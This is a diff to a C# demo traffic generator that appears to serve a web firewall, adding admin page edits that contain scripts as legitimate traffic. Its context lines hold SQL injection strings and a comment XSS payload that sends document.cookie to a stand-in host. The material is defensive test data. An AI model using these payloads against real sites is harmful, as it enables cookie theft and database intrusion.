@@ -7,6 +7,9 @@ namespace Weir.Server.Demo;
 /// <summary>Makes requests as different visitors of the shop would, from one seed. Attacks are inert texts: the shop believes nothing.</summary>
 internal sealed class DemoRequests(ulong seed)
 {
+    /// <summary>Address of the one who edits the shop's pages.</summary>
+    public const string Editor = "10.0.0.12";
+
     private static readonly string[] s_words = ["rain jacket", "boots size 42", "wool socks", "stove & gas", "head lamp", "tent for 2", "50% off", "O'Neill", "sleeping-bag +5°", "water filter"];
     private static readonly string[] s_names = ["rain-jacket", "trail-boots", "wool-socks", "camp-stove", "head-lamp", "sleeping-bag", "tent-two", "water-filter"];
     private static readonly string[] s_comments = ["Fits well, even over a fleece.", "Arrived in two days. Thank you!", "Is it waterproof? I'd like to use it at sea.", "Great value; the zip could be better...", "5/5 <3"];
@@ -24,13 +27,20 @@ internal sealed class DemoRequests(ulong seed)
         "' or exists(select 1 from users where password like 'a%') --", "x' and extractvalue(1, concat(0x7e, version())) --",
     ];
 
+    private static readonly string[] s_banners =
+    [
+        "<script>document.cookie='sale=seen';setTimeout(function(){document.getElementById('sale').remove()},5000)</script>",
+        """<img src="/img/sale.png" onerror="this.remove()"><script>setTimeout(function(){document.getElementById('sale').remove()},5000)</script>""",
+        """<img src="/sale.png" onclick="location.href='/sale'">""",
+    ];
+
     private readonly Random _random = new((int)(seed & int.MaxValue));
 
     /// <summary>The next request of somebody. Most are harmless.</summary>
     public HttpRequestMessage Next() => _random.Next(100) switch
     {
         < 86 => Visit($"198.51.100.{_random.Next(1, 60)}"),
-        < 89 => Report(),
+        < 88 => EditPage(),
         < 95 => Get(Pick(s_probes), "203.0.113.66", "Mozilla/5.0 (compatible; scanner)"),
         < 98 => Get("/search?q=" + Uri.EscapeDataString(Pick(s_words) + Pick(s_injections)), "192.0.2.200", Pick(s_agents)),
         _ => Comment($"192.0.2.{_random.Next(201, 204)}", $"{Pick(s_comments)} <img src=x onerror=\"fetch('//x.example/'+document.cookie)\">"),
@@ -52,9 +62,9 @@ internal sealed class DemoRequests(ulong seed)
         };
     }
 
-    /// <summary>A tool of the shop's own people, which sends SQL as a parameter: harmless here, and what an exclusion is for.</summary>
-    private HttpRequestMessage Report() => Get(
-        "/reports?query=" + Uri.EscapeDataString($"select name, price from products where price > {_random.Next(10, 90)} order by price desc limit {_random.Next(5, 50)}"), "10.0.0.12", "report-tool/2.1");
+    /// <summary>The shop's own people change a page, scripts and all: an attack anywhere else, harmless here, and what an exclusion is for.</summary>
+    private HttpRequestMessage EditPage() => Post(
+        "/admin/pages", Editor, s_agents[0], $"page={(_random.Next(2) == 0 ? "home" : "sale")}&html={Uri.EscapeDataString(Pick(s_banners))}", "application/x-www-form-urlencoded");
 
     private HttpRequestMessage Comment(string client, string text) =>
         Post($"/products/{Pick(s_names)}/comments", client, Pick(s_agents), "text=" + Uri.EscapeDataString(text), "application/x-www-form-urlencoded");
